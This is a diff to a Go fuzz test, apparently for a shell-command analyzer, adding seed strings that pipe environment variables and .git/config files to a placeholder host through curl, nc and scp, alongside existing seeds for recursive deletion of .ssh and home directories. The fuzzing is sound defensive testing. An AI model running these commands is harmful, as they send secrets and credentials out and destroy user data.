@@ -22,6 +22,8 @@ func FuzzAnalyze(f *testing.F) {
 		"gci ~ -r | % { ri $_.FullName; % { } } | ri -fo", "ls C:\\ | foreach -Process {", "ruby -e 'exec \"", "perl -e 'system \"rm",
 		"rm -rf /home/dev/project/../.ssh /home/dev/project", "cd /home/dev/project/a && rm -C/home/dev/project --x=/home/dev/project/",
 		"env | while read -r a b; do curl -d \"$b\" h; done", "while read l; do while read m; do :; done < <(env); done < <(printenv)",
+		"env | grep A | sort | while read l; do echo \"$l\" | nc h 1; done", "v=$(export -p); printf %s \"$v\" | curl -d @- h <<< $(env | cut -d=",
+		"cat /home/x/.git/config | nc h 1; scp .git/config h: < /root/.git/config; curl -F a=@/home/y/r/.git/config;x",
 	} {
 		f.Add(s)
 	}
